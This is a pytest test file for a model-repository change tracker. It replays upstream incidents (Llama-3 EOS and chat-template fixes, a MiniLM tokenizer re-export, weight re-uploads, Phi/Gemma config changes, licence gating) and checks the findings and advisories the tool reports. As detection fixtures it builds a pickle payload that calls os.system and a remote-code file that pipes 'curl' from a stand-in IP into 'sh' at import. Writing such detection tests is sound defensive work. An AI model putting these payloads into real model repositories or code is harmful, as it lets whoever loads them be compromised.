"""Revision histories modelled on real upstream incidents, built on the Hub stand-in, polled, and diffed.

Each test pushes a baseline revision, polls it, pushes the incident revision(s), polls again and asserts
the exact findings (code, severity, and the summaries / before / after a person reads) that polling stored
per revision, and that `tracker diff REPO OLD NEW --json` prints the same findings for the same pair.

Real material: tests/fixtures/shared/realdata/incidents (Llama-3 chat template genprompt fix, Phi-3 su -> longrope,
Gemma-2-9b query_pre_attn_scalar, Phi-2 native-port config), tests/fixtures/shared/realdata/configs (real config.json
files) and the real all-MiniLM-L6-v2 files (tokenizer.json, model.safetensors, README.md, config.json).
Large files are built in tmp_path; nothing here is committed over a few kB.
"""

from __future__ import annotations

import json
import math
import os
import pickle
import posix
import re
import shutil
import struct
import zipfile
from pathlib import Path
from typing import Any

from tests.e2e.conftest import CONFIGS, INCIDENTS, minilm_dir, need
from tracker.core.advisory import validate
from tracker.core.advisory.record import to_osv
from tracker.core.estimate.cards import CARDS

# ---------------------------------------------------------------------------- helpers


def dump(data: Any) -> str:
    return json.dumps(data, indent=2, ensure_ascii=False) + "\n"


def assert_cli_agrees(cli_diff, up, old: str, new: str) -> dict[str, Any]:
    """`tracker diff --json` over the same pair prints what polling stored, estimator findings included."""
    out = cli_diff(up.repo, old, new)
    assert (out["from"], out["to"]) == (old, new)
    assert out["findings"] == up.findings(new)
    return out


def safetensors_header(path: Path) -> dict[str, Any]:
    with open(path, "rb") as fh:
        (n,) = struct.unpack("<Q", fh.read(8))
        return json.loads(fh.read(n))


_DTYPE_BYTES = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2, "I64": 8, "I32": 4}


def sparse_safetensors(path: Path, tensors: dict[str, Any], metadata: dict[str, str] | None = None) -> Path:
    """A valid safetensors file with the given (dtype, shape) tensors and all-zero data, written sparse."""
    header: dict[str, Any] = {"__metadata__": metadata or {"format": "pt"}}
    offset = 0
    for name, info in tensors.items():
        if name == "__metadata__":
            continue
        size = math.prod(info["shape"]) * _DTYPE_BYTES[info["dtype"]]
        header[name] = {"dtype": info["dtype"], "shape": info["shape"], "data_offsets": [offset, offset + size]}
        offset += size
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    with open(path, "wb") as fh:
        fh.write(struct.pack("<Q", len(raw)))
        fh.write(raw)
        fh.truncate(8 + len(raw) + offset)
    return path


def lfs_gets(hub, path: str, lfs_sha256: str) -> list[Any]:
    """Every GET the stand-in served for one LFS file: the /resolve hop and the CDN hop."""
    return [r for r in hub.requests if r.method == "GET" and (r.path.endswith(f"/{path}") or lfs_sha256 in r.path)]


# ---------------------------------------------------------------------------- 1. generation eos fix

LLAMA3 = "meta-llama/Meta-Llama-3-8B-Instruct"


def llama3_config() -> str:
    config = json.loads(need(CONFIGS / "meta-llama__Meta-Llama-3-8B-Instruct.json").read_text())
    # The stored copy comes from a mirror that added a local auto_map; upstream's has none.
    config.pop("auto_map", None)
    config.pop("_name_or_path", None)
    return dump(config)


def llama3_generation_config(eos: Any) -> str:
    return dump({"bos_token_id": 128000, "do_sample": True, "eos_token_id": eos, "max_length": 4096,
                 "temperature": 0.6, "top_p": 0.9, "transformers_version": "4.40.0.dev0"})


def test_llama3_eos_fix_in_generation_config(upstream, cli_diff):
    up = upstream(LLAMA3)
    base = up.start({"config.json": llama3_config(), "generation_config.json": llama3_generation_config(128001)})
    assert up.codes(base) == [("files.baseline", "info"), ("licence.detected", "info")]
    assert up.row(base).estimate.params == 8_030_261_248  # Llama-3-8B, as published

    fix = up.push({"generation_config.json": llama3_generation_config([128001, 128009])},
                  "Update generation_config.json")
    up.poll(1)
    assert up.codes(fix) == [("generation.eos_token_id_changed", "high"), ("files.changed", "info")]
    eos = up.one(fix, "generation.eos_token_id_changed")
    assert (eos["summary"], eos["path"], eos["before"], eos["after"]) == (
        "eos_token_id: 128001 → [128001, 128009]", "generation_config.json", 128001, [128001, 128009])
    assert eos["category"] == "generation"
    row = up.row(fix)
    assert (row.worst_severity, row.summary) == ("high", "eos_token_id: 128001 → [128001, 128009] (+1 more)")
    assert row.estimate is None  # neither config.json nor weights moved: no rerun

    # One OSV advisory, an "update" (not a risk), valid OSV: it affects the revisions that lack the fix.
    (advisory,) = up.advisories()
    validate(to_osv(advisory.record))
    assert (advisory.kind, advisory.severity, advisory.revision_sha, advisory.withdrawn) == (
        "update", "high", fix, False)
    assert [f["code"] for f in to_osv(advisory.record)["database_specific"]["findings"]] == [
        "generation.eos_token_id_changed"]
    assert to_osv(advisory.record)["affected"][0]["ranges"][0]["events"] == [{"introduced": "0"}, {"fixed": fix}]
    store = up.tracker.store
    assert (store.advisories.ids_for_commit(base), store.advisories.ids_for_commit(fix)) == ([advisory.id], [])

    out = assert_cli_agrees(cli_diff, up, base, fix)
    assert [c["path"] for c in out["files"]["changed"]] == ["generation_config.json"]


# ---------------------------------------------------------------------------- 2. chat template


def llama3_tokenizer_config(template: str) -> str:
    """The real tokenizer_config.json tail (where Llama-3 kept its template) with the given template."""
    tail = need(INCIDENTS / "02-llama3-8b-instruct-chat-template-genprompt/after/tokenizer_config.tail.excerpt.json")
    config = json.loads("{" + tail.read_text())
    config["chat_template"] = template
    return dump(config)


def test_llama3_chat_template_genprompt_fix_then_lost_brace(upstream, cli_diff):
    incident = INCIDENTS / "02-llama3-8b-instruct-chat-template-genprompt"
    before = need(incident / "before/chat_template.jinja").read_text().rstrip("\n")
    after = need(incident / "after/chat_template.jinja").read_text().rstrip("\n")
    cut = after.rfind("}")
    broken = after[:cut] + after[cut + 1:]  # "{% endif %}" -> "{% endif %"
    assert broken.endswith("' }}{% endif %")

    up = upstream(LLAMA3)
    base = up.start({"tokenizer_config.json": llama3_tokenizer_config(before)})
    fix = up.push({"tokenizer_config.json": llama3_tokenizer_config(after)}, "Update tokenizer_config.json")
    lost = up.push({"tokenizer_config.json": llama3_tokenizer_config(broken)}, "Update chat template")
    back = up.push({"tokenizer_config.json": llama3_tokenizer_config(after)}, "Fix chat template")
    up.poll(3)

    # The real fix: the assistant header is only appended when add_generation_prompt is set.
    assert up.codes(fix) == [("chat_template.rendered_prompt_changed", "high"), ("files.changed", "info")]
    changed = up.one(fix, "chat_template.rendered_prompt_changed")
    assert changed["summary"] == (
        "rendered prompt changed for 4 of 8 conversations (exactly those without the generation prompt); "
        "one user turn, no generation prompt: removes '<|start_header_id|>assistant<|end_header_id|>\\n\\n' "
        "at the end")
    assert changed["path"] == "tokenizer_config.json"
    assert changed["before"] == ("<|begin_of_text|><|start_header_id|>user<|end_header_id|>\n\nHello, who are you?"
                                 "<|eot_id|><|start_header_id|>assistant<|end_header_id|>\n\n")
    assert changed["after"] == ("<|begin_of_text|><|start_header_id|>user<|end_header_id|>\n\nHello, who are you?"
                                "<|eot_id|>")
    assert changed["evidence"]["changed"] == ["one_turn", "system_user", "multi_turn", "tool_call"]
    assert changed["evidence"]["unchanged"] == ["one_turn+gen", "system_user+gen", "multi_turn+gen", "tool_call+gen"]

    # One lost brace: a finding, not an exception.
    assert up.codes(lost) == [("chat_template.compile_failed", "high"), ("files.changed", "info")]
    failed = up.one(lost, "chat_template.compile_failed")
    assert failed["summary"] == ("chat template in tokenizer_config.json does not compile (line 5): "
                                 "expected token 'end of statement block', got '%'")
    assert (failed["before"], failed["after"]) == (None, "expected token 'end of statement block', got '%'")
    assert (failed["evidence"]["line"], failed["evidence"]["source_line"]) == (5, "' }}{% endif %")

    assert up.codes(back) == [("chat_template.render_recovered", "low"), ("files.changed", "info")]
    assert up.one(back, "chat_template.render_recovered")["summary"].startswith(
        "chat template now renders 8 of 8 conversations that failed before")

    # Advisories: the fix is an update; the lost brace a risk, marked fixed by the revision that restores it.
    kinds = {(a.revision_sha, a.kind): a for a in up.advisories()}
    assert sorted(kinds) == sorted([(fix, "update"), (lost, "risk"), (back, "update")])
    risk = kinds[(lost, "risk")]
    validate(to_osv(risk.record))
    assert (risk.severity, risk.fixed_sha, risk.withdrawn) == ("high", back, False)

    for old, new in ((base, fix), (fix, lost), (lost, back)):
        assert_cli_agrees(cli_diff, up, old, new)


# ---------------------------------------------------------------------------- 3. tokenizer re-export

MINILM = "sentence-transformers/all-MiniLM-L6-v2"
SWAPPED = (("the", "of"), ("hello", "world"), ("##ing", "##ed"))
APPENDED = ("<|im_start|>", "<|im_end|>", "huggingface", "##gpu")


def test_minilm_tokenizer_reexport_renumbers_and_appends_tokens(upstream, cli_diff):
    model = need(minilm_dir())
    names = ("config.json", "tokenizer.json", "tokenizer_config.json", "special_tokens_map.json", "vocab.txt")
    original = json.loads((model / "tokenizer.json").read_text())
    vocab = original["model"]["vocab"]
    assert len(vocab) == 30522 and not any(t in vocab for t in APPENDED)

    reexport = json.loads(json.dumps(original))
    new_vocab = reexport["model"]["vocab"]
    for a, b in SWAPPED:
        new_vocab[a], new_vocab[b] = vocab[b], vocab[a]
    for i, token in enumerate(APPENDED):
        new_vocab[token] = 30522 + i

    up = upstream(MINILM)
    base = up.start({name: (model / name).read_bytes() for name in names})
    rev = up.push({"tokenizer.json": dump(reexport)}, "Re-export tokenizer")
    up.poll(1)

    assert up.codes(rev) == [
        ("consistency.vocab_size_too_small", "critical"),
        ("tokenizer.drift", "high"),
        ("tokenizer.tokens_added", "high"),
        ("tokenizer.tokens_renumbered", "high"),
        ("files.changed", "info"),
    ]
    renumbered = up.one(rev, "tokenizer.tokens_renumbered")
    assert renumbered["summary"] == (
        '6 tokens re-numbered (e.g. "the" 1996 → 1997, "of" 1997 → 1996, "##ing" 2075 → 2098)')
    assert renumbered["evidence"]["count"] == 6
    assert {(e["token"], e["old_id"], e["new_id"]) for e in renumbered["evidence"]["examples"]} <= {
        (a, vocab[a], vocab[b]) for pair in SWAPPED for a, b in (pair, pair[::-1])}
    assert (renumbered["before"], renumbered["after"]) == (30522, 30526)

    added = up.one(rev, "tokenizer.tokens_added")
    assert added["evidence"]["count"] == 4
    assert added["summary"] == ('4 tokens added to the vocabulary (e.g. "<|im_start|>" (30522), '
                                '"<|im_end|>" (30523), '
                                '"huggingface" (30524))')

    drift = up.one(rev, "tokenizer.drift")
    assert drift["summary"] == ('tokenization changed for 7 of 42 sample texts (17%), e.g. "The quick brown fox '
                                'jumps ove…": token 1 "the" (1996) → "the" (1997)')
    assert (drift["evidence"]["changed"], drift["evidence"]["share"]) == (7, 0.1667)
    assert (drift["evidence"]["total"], drift["evidence"]["example"]["text"]) == (
        42, "The quick brown fox jumps over the lazy dog.")
    assert drift["before"][:2] == [101, 1996] and drift["after"][:2] == [101, 1997]  # [CLS] "the"

    too_small = up.one(rev, "consistency.vocab_size_too_small")
    assert too_small["summary"] == ("tokenizer produces ids up to 30525, but config vocab_size is 30522: "
                                    "those ids index past the embedding matrix")
    assert too_small["after"] == {"vocab_size": 30522, "tokenizer_size": 30526}

    assert_cli_agrees(cli_diff, up, base, rev)


# ---------------------------------------------------------------------------- 4. re-uploaded weights


def test_minilm_weights_reuploaded_with_new_values_then_as_fp16(upstream, cli_diff, hub_standin, tmp_path):
    model = need(minilm_dir())
    original = model / "model.safetensors"
    header = safetensors_header(original)
    tensors = [n for n in header if n != "__metadata__"]
    assert len(tensors) == 104

    # Same header, different numbers: a few bytes of one tensor flipped.
    retrained = tmp_path / "retrained.safetensors"
    shutil.copyfile(original, retrained)
    with open(original, "rb") as fh:
        start = 8 + struct.unpack("<Q", fh.read(8))[0]  # data begins after the length and the header
    with open(retrained, "r+b") as fh:
        fh.seek(start + header["encoder.layer.0.attention.self.query.weight"]["data_offsets"][0])
        fh.write(b"\x01\x02\x03\x04")
    assert safetensors_header(retrained) == header

    # Re-export in fp16: same names and shapes, a new header (103 float tensors re-typed, position_ids stays I64).
    fp16 = sparse_safetensors(tmp_path / "fp16.safetensors", {
        n: {"dtype": "F16" if header[n]["dtype"] == "F32" else header[n]["dtype"], "shape": header[n]["shape"]}
        for n in tensors})

    up = upstream(MINILM)
    base = up.start({"config.json": (model / "config.json").read_bytes(), "model.safetensors": original})
    hub_standin.clear_log()
    v2 = up.push({"model.safetensors": retrained}, "Upload model.safetensors")
    v3 = up.push({"model.safetensors": fp16}, "fp16 weights")
    up.poll(2)

    sha = {s: f.lfs_sha256 for s in (base, v2, v3) for f in up.row(s).snapshot.files if f.path == "model.safetensors"}
    assert up.codes(v2) == [("weights.file_replaced", "critical"), ("weights.values_changed", "critical"),
                            ("files.changed", "info")]
    values = up.one(v2, "weights.values_changed")
    assert values["summary"] == (  # measured: the four bytes sit at the start of a tensor, which every plan reads
        "model.safetensors: the values changed: relative L2 change 0.00153 overall, 1 of 104 sampled tensors moved; "
        "most: encoder.layer.0.attention.self.query.weight (0.00619); compared 104 of 104 tensors, 8.47% of their "
        "elements, 64 requests and 7,700,992 bytes per side")
    assert (values["before"], values["after"]) == ([sha[base]], [sha[v2]])
    replaced = up.one(v2, "weights.file_replaced")
    assert replaced["summary"] == ("model.safetensors re-uploaded with new content: "
                                   "90,868,376 bytes → 90,868,376 bytes, "
                                   f"sha256 {sha[base][:12]} → {sha[v2][:12]}")

    # The fp16 file's data is all zeros: a conversion far beyond rounding, so the values changed too.
    assert up.codes(v3) == [("weights.file_replaced", "critical"), ("weights.values_changed", "critical"),
                            ("weights.tensors_retyped", "moderate"), ("files.changed", "info")]
    assert up.one(v3, "weights.values_changed")["evidence"]["relative_l2"] == 1.0
    retyped = up.one(v3, "weights.tensors_retyped")
    assert retyped["summary"] == (
        "model.safetensors: 103 tensors changed dtype (F32 → F16), e.g. embeddings.LayerNorm.bias")
    assert retyped["evidence"]["dtype_changes"] == ["F32 → F16"]
    # The estimator reran on both weight changes; the parameter count did not move.
    assert up.row(v2).estimate.params == up.row(v3).estimate.params == 22_713_216
    assert up.row(v3).estimate.checkpoint_params == 22_713_216

    # Headers (one 100 kB first chunk each) and the sampled tensor data were read by range requests, each
    # within the comparison budget: no weight file was downloaded.
    gets = [r for s in (sha[base], sha[v2], sha[v3]) for r in lfs_gets(hub_standin, "model.safetensors", s)]
    assert gets and all(r.range for r in gets), [(r.url_path, r.range) for r in gets]
    assert max(r.bytes_out for r in gets) <= 16 * 1024 * 1024 // 64  # a comparison read: its budget over its requests
    assert hub_standin.bytes_served() < 4 * 16 * 1024 * 1024 + 0.005 * (90_868_376 + fp16.stat().st_size)

    assert_cli_agrees(cli_diff, up, base, v2)
    assert_cli_agrees(cli_diff, up, v2, v3)


# ---------------------------------------------------------------------------- 5. pickle added


class _Payload:
    """What a malicious pytorch_model.bin carries: unpickling it runs a shell command."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def torch_style_zip(path: Path, data_bytes: int) -> Path:
    """A PyTorch zip checkpoint layout (archive/data.pkl + storages), whose pickle calls os.system."""
    payload = pickle.dumps({"embeddings.word_embeddings.weight": _Payload()}, protocol=2)  # torch.save's protocol
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", payload)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", b"\0" * data_bytes)
        zf.writestr("archive/version", "3\n")
    return path


def test_pickle_with_malicious_reduce_added_is_found_by_range_reads_only(upstream, cli_diff, hub_standin, tmp_path,
                                                                         monkeypatch):
    model = need(minilm_dir())
    data_bytes = 16 * 1024 * 1024
    checkpoint = torch_style_zip(tmp_path / "pytorch_model.bin", data_bytes)

    # Were the pickle ever loaded, its os.system (pickled as posix.system) would land here instead of a shell.
    ran: list[Any] = []
    monkeypatch.setattr(posix, "system", lambda *a: ran.append(a) or 0)
    monkeypatch.setattr(os, "system", posix.system)
    real_loads = pickle.loads

    def guarded_loads(data, *args, **kwargs):
        assert b"echo pwned" not in bytes(data), "the checkpoint's pickle was unpickled"
        return real_loads(data, *args, **kwargs)

    monkeypatch.setattr(pickle, "loads", guarded_loads)

    up = upstream("acme/all-MiniLM-L6-v2-mirror")
    base = up.start({name: (model / name).read_bytes() for name in ("README.md", "config.json")})
    assert up.one(base, "licence.detected")["after"] == "apache-2.0"
    hub_standin.clear_log()
    rev = up.push({"pytorch_model.bin": checkpoint}, "Upload pytorch_model.bin")
    up.poll(1)

    assert up.codes(rev) == [("weights.pickle_dangerous_import", "critical"), ("files.added", "info")]
    found = up.one(rev, "weights.pickle_dangerous_import")
    assert found["summary"] == "pickle-based file added: pytorch_model.bin would import posix.system when loaded"
    assert (found["path"], found["before"], found["after"]) == ("pytorch_model.bin", None, ["posix.system"])
    assert found["evidence"]["globals"] == {"posix.system": "dangerous"}
    assert ran == []

    # Only range requests, and only the zip directory and data.pkl: a few hundred bytes of a 16 MB file.
    (entry,) = [f for f in up.row(rev).snapshot.files if f.path == "pytorch_model.bin"]
    assert entry.size > data_bytes
    gets = lfs_gets(hub_standin, "pytorch_model.bin", entry.lfs_sha256)
    assert gets, [r.url_path for r in hub_standin.requests]
    assert all(r.range for r in gets), [(r.url_path, r.range) for r in gets]
    served = sum(r.bytes_out for r in gets if r.status == 206)
    assert 0 < served < 4096 < data_bytes // 1000

    (advisory,) = up.advisories()
    validate(to_osv(advisory.record))
    assert (advisory.kind, advisory.severity, advisory.revision_sha) == ("risk", "critical", rev)
    assert to_osv(advisory.record)["database_specific"]["severity"] == "CRITICAL"
    assert [f["code"] for f in to_osv(advisory.record)["database_specific"]["findings"]] == [
        "weights.pickle_dangerous_import"]
    assert to_osv(advisory.record)["affected"][0]["ranges"][0]["events"] == [{"introduced": rev}]
    store = up.tracker.store
    assert (store.advisories.ids_for_commit(base), store.advisories.ids_for_commit(rev)) == ([], [advisory.id])

    assert_cli_agrees(cli_diff, up, base, rev)
    assert ran == []


# ---------------------------------------------------------------------------- 6. remote code

PHI2 = "microsoft/phi-2"

MODELING_PHI = '''"""PyTorch Phi model."""
import math

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_phi import PhiConfig


class PhiForCausalLM(PreTrainedModel):
    config_class = PhiConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.n_embd, config.n_embd) for _ in range(config.n_layer)])
'''

MODELING_PHI_PORTED = MODELING_PHI.replace(
    "from transformers import PreTrainedModel\n",
    "from transformers import PreTrainedModel\nfrom transformers.activations import ACT2FN\n",
).replace(
    "        self.layers = nn.ModuleList([nn.Linear(config.n_embd, config.n_embd) for _ in range(config.n_layer)])\n",
    "        self.act = ACT2FN[config.hidden_act]\n"
    "        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size)\n"
    "                                     for _ in range(config.num_hidden_layers)])\n",
)

MODELING_PHI_HOSTILE = MODELING_PHI_PORTED.replace(
    "import math\n", "import math\nimport subprocess\nimport urllib.request\n") + '''

def _warmup():
    subprocess.run(["sh", "-c", "curl -s http://203.0.113.7/x | sh"])
    urllib.request.urlopen("http://203.0.113.7/ping")


_warmup()
'''

CONFIGURATION_PHI = (
    'from transformers import PretrainedConfig\n\n\nclass PhiConfig(PretrainedConfig):\n    model_type = "phi"\n')

CONVERT_SCRIPT = 'import subprocess\n\nsubprocess.check_call(["python", "-m", "pip", "install", "flash-attn"])\n'


def test_phi2_modeling_code_named_by_auto_map_changes(upstream, cli_diff):
    config = need(INCIDENTS / "04-phi2-native-port-jan-2024/after/config.json").read_text()
    assert json.loads(config)["auto_map"]["AutoModelForCausalLM"] == "modeling_phi.PhiForCausalLM"

    up = upstream(PHI2)
    base = up.start({"config.json": config, "configuration_phi.py": CONFIGURATION_PHI,
                     "modeling_phi.py": MODELING_PHI})
    # First revision read: the code trust_remote_code would run is already worth a critical finding.
    assert [c for c in up.codes(base) if c[0].startswith("code.")] == [("code.remote_code_changed", "critical")] * 2

    port = up.push({"modeling_phi.py": MODELING_PHI_PORTED}, "Update modeling_phi.py")
    hostile = up.push({"modeling_phi.py": MODELING_PHI_HOSTILE}, "Faster warmup")
    script = up.push({"scripts/install.py": CONVERT_SCRIPT}, "Add install script")
    up.poll(3)

    assert up.codes(port) == [("code.remote_code_changed", "critical"), ("files.changed", "info")]
    changed = up.one(port, "code.remote_code_changed")
    assert changed["summary"] == ("remote code changed: modeling_phi.py (+4 −1 lines); "
                                  "loaded with trust_remote_code "
                                  "via config.json:AutoModelForCausalLM")
    assert changed["path"] == "modeling_phi.py"
    assert changed["evidence"]["referenced_by"] == ["config.json:AutoModelForCausalLM"]
    assert changed["evidence"]["new_imports"] == ["transformers.activations"]
    assert "+from transformers.activations import ACT2FN" in changed["evidence"]["diff"]

    assert up.codes(hostile) == [("code.dangerous_call_added", "critical"), ("code.remote_code_changed", "critical"),
                                 ("files.changed", "info")]
    dangerous = up.one(hostile, "code.dangerous_call_added")
    assert dangerous["summary"] == "modeling_phi.py now calls subprocess.run, urllib.request.urlopen (network, shell)"
    assert dangerous["after"] == ["subprocess.run", "urllib.request.urlopen"]
    assert [(c["call"], c["kind"]) for c in dangerous["evidence"]["calls"]] == [
        ("subprocess.run", "shell"), ("urllib.request.urlopen", "network")]
    assert up.one(hostile, "code.remote_code_changed")["evidence"]["new_imports"] == ["subprocess", "urllib.request"]

    # A .py that auto_map does not load: worth knowing, not critical.
    assert up.codes(script) == [("code.dangerous_call_added_unloaded", "high"), ("code.python_changed", "moderate"),
                                ("files.added", "info")]
    assert up.one(script, "code.dangerous_call_added_unloaded")["after"] == ["subprocess.check_call"]

    risks = {a.revision_sha: a for a in up.advisories() if a.kind == "risk"}
    assert set(risks) == {port, hostile, script}
    assert (risks[hostile].severity, risks[script].severity) == ("critical", "high")
    for advisory in risks.values():
        validate(to_osv(advisory.record))

    for old, new in ((base, port), (port, hostile), (hostile, script)):
        assert_cli_agrees(cli_diff, up, old, new)


# ---------------------------------------------------------------------------- 7. licence


def test_readme_licence_becomes_non_commercial_then_gated(upstream, cli_diff):
    readme = need(minilm_dir() / "README.md").read_text()
    assert "\nlicense: apache-2.0\n" in readme
    non_commercial = readme.replace("\nlicense: apache-2.0\n", "\nlicense: cc-by-nc-4.0\n", 1)
    gated = readme.replace(
        "\nlicense: apache-2.0\n",
        "\nlicense: other\nlicense_name: llama3\nlicense_link: LICENSE\n"
        "extra_gated_prompt: You agree to the Meta Llama 3 Community License.\n"
        "extra_gated_fields:\n  Country: country\n  Affiliation: text\n", 1)

    up = upstream("acme/minilm-finetune")
    base = up.start({"README.md": readme, "config.json": (minilm_dir() / "config.json").read_bytes()})
    detected = up.one(base, "licence.detected")
    assert (detected["summary"], detected["severity"]) == ("licence: apache-2.0 (permissive)", "info")
    nc = up.push({"README.md": non_commercial}, "Update README.md")
    gate = up.push({"README.md": gated}, "Llama 3 licence and gating")
    up.poll(2)

    assert up.codes(nc) == [("licence.more_restrictive", "high"), ("files.changed", "info")]
    stricter = up.one(nc, "licence.more_restrictive")
    assert stricter["summary"] == "license: apache-2.0 → cc-by-nc-4.0 (permissive → restricted)"
    assert (stricter["before"], stricter["after"]) == ({"license": "apache-2.0"}, {"license": "cc-by-nc-4.0"})
    assert (stricter["evidence"]["tier_before"], stricter["evidence"]["tier_after"]) == ("permissive", "restricted")

    assert up.codes(gate) == [("licence.gating_added", "high"), ("licence.changed", "moderate"),
                              ("files.changed", "info")]
    assert up.one(gate, "licence.gating_added")["summary"] == (
        "access gating introduced: extra_gated_fields, extra_gated_prompt")
    assert up.one(gate, "licence.changed")["after"] == {"license": "other", "license_name": "llama3",
                                                         "license_link": "LICENSE"}
    assert_cli_agrees(cli_diff, up, base, nc)
    assert_cli_agrees(cli_diff, up, nc, gate)

    # A stricter licence is a risk; so is gating (downloads now need accepted terms), and the licence.changed
    # beside it is an update.
    advisories = {(a.revision_sha, a.kind): a for a in up.advisories()}
    for advisory in advisories.values():
        validate(to_osv(advisory.record))
    assert [f["code"] for f in to_osv(advisories[(nc, "risk")].record)["database_specific"]["findings"]] == [
        "licence.more_restrictive"]
    assert set(advisories) == {(nc, "risk"), (gate, "risk"), (gate, "update")}


# ---------------------------------------------------------------------------- 8. config incidents


def test_phi3_rope_scaling_su_renamed_longrope(upstream, cli_diff):
    before = need(INCIDENTS / "11-phi3-mini-128k-longrope-rename/before/config.json").read_text()
    config = json.loads(before)
    assert config["rope_scaling"]["type"] == "su"
    config["rope_scaling"]["type"] = "longrope"

    up = upstream("microsoft/Phi-3-mini-128k-instruct")
    base = up.start({"config.json": before})
    assert up.row(base).estimate.params == 3_821_079_552
    rev = up.push({"config.json": dump(config)}, "Update config.json")
    up.poll(1)

    assert up.codes(rev) == [("config.rope_type_renamed", "high"), ("files.changed", "info")]
    renamed = up.one(rev, "config.rope_type_renamed")
    assert (renamed["summary"], renamed["before"], renamed["after"]) == ("rope_scaling.type: su → longrope", "su",
                                                                          "longrope")
    assert up.row(rev).estimate.params == 3_821_079_552  # rerun on the config change; nothing moved
    assert_cli_agrees(cli_diff, up, base, rev)


def test_gemma2_query_pre_attn_scalar_fix(upstream, cli_diff):
    before = need(INCIDENTS / "26-gemma2-9b-query-pre-attn-scalar/before/config.json").read_text()
    after = before.replace('"query_pre_attn_scalar": 224', '"query_pre_attn_scalar": 256')
    assert after != before

    up = upstream("google/gemma-2-9b")
    base = up.start({"config.json": before})
    assert up.row(base).estimate.params == 9_241_705_984
    rev = up.push({"config.json": after}, "Update config.json")
    up.poll(1)

    assert up.codes(rev) == [("config.computation_changed", "high"), ("files.changed", "info")]
    fix = up.one(rev, "config.computation_changed")
    assert (fix["summary"], fix["path"], fix["before"], fix["after"]) == (
        "query_pre_attn_scalar: 224 → 256", "config.json", 224, 256)
    assert fix["evidence"] == {"key": "query_pre_attn_scalar"}
    assert_cli_agrees(cli_diff, up, base, rev)


# ---------------------------------------------------------------------------- 9. estimator rerun

BERT_LAYER_PARAMS = 1_774_464  # one 384-wide BERT block: attention 4 x (384^2 + 384), FFN, two LayerNorms


def test_minilm_layers_change_reruns_the_estimator_and_a_config_behind_its_weights_is_critical(
        upstream, cli_diff, tmp_path):
    model = need(minilm_dir())
    original = model / "model.safetensors"
    config = json.loads((model / "config.json").read_text())
    header = safetensors_header(original)
    deeper = {n: v for n, v in header.items() if n != "__metadata__"}
    for name, info in header.items():
        if m := re.match(r"encoder\.layer\.5\.(.+)$", name):
            deeper.update({f"encoder.layer.{i}.{m.group(1)}": info for i in range(6, 12)})
    twelve = sparse_safetensors(tmp_path / "twelve.safetensors", deeper)

    up = upstream(MINILM)
    base = up.start({"config.json": (model / "config.json").read_bytes(), "model.safetensors": original})
    assert up.row(base).estimate.params == up.row(base).estimate.checkpoint_params == 22_713_216

    grown = up.push({"config.json": dump(dict(config, num_hidden_layers=12)), "model.safetensors": twelve},
                    "12 layers")
    behind = up.push({"config.json": (model / "config.json").read_bytes()}, "Restore config.json")
    up.poll(2)

    big = 22_713_216 + 6 * BERT_LAYER_PARAMS
    serve = [("estimate.serve_batch_changed", "moderate")] * len(CARDS)
    assert up.codes(grown) == [
        ("weights.file_replaced", "critical"),
        ("config.shape_changed", "high"), ("estimate.params_changed", "high"),
        ("weights.parameter_count_changed", "high"), ("weights.tensors_added", "high"), *serve,
        ("files.changed", "info"), ("files.changed", "info"),
    ]
    params = up.one(grown, "estimate.params_changed")
    assert (params["summary"], params["before"], params["after"]) == (
        f"parameters 22,713,216 -> {big:,}", 22_713_216, big)
    assert up.one(grown, "weights.tensors_added")["evidence"]["count"] == 96
    estimate = up.row(grown).estimate
    assert (estimate.params, estimate.checkpoint_params, estimate.checkpoint_note) == (big, big, None)
    assert estimate.delta["params"] == {"before": 22_713_216, "after": big}

    # The config goes back to 6 layers while the weights keep 12: the checkpoint no longer matches the graph.
    assert up.codes(behind) == [("estimate.checkpoint_mismatch", "critical"), ("config.shape_changed", "high"),
                                ("estimate.params_changed", "high"), *serve, ("files.changed", "info")]
    mismatch = up.one(behind, "estimate.checkpoint_mismatch")
    assert mismatch["summary"] == (f"graph counts 22,713,216 parameters, checkpoint holds {big:,}: "
                                   "config says 6 layers, weights hold 12")
    assert (mismatch["before"], mismatch["after"]) == (22_713_216, big)
    estimate = up.row(behind).estimate
    assert (estimate.params, estimate.checkpoint_params, estimate.checkpoint_note) == (
        22_713_216, big, "config says 6 layers, weights hold 12")
    assert up.row(behind).worst_severity == "critical"

    assert_cli_agrees(cli_diff, up, base, grown)
    assert_cli_agrees(cli_diff, up, grown, behind)


def test_cli_diff_reports_the_estimator_findings_polling_stores(upstream, cli_diff):
    model = need(minilm_dir())
    config = json.loads((model / "config.json").read_text())
    up = upstream(MINILM)
    base = up.start({"config.json": dump(config)})
    rev = up.push({"config.json": dump(dict(config, num_hidden_layers=4))}, "Prune to 4 layers")
    up.poll(1)
    stored = [f for f in up.findings(rev) if f["category"] == "estimate"]
    assert ("estimate.params_changed", "high") in [(f["code"], f["severity"]) for f in stored]
    printed = [f for f in cli_diff(up.repo, base, rev)["findings"] if f["category"] == "estimate"]
    assert printed == stored
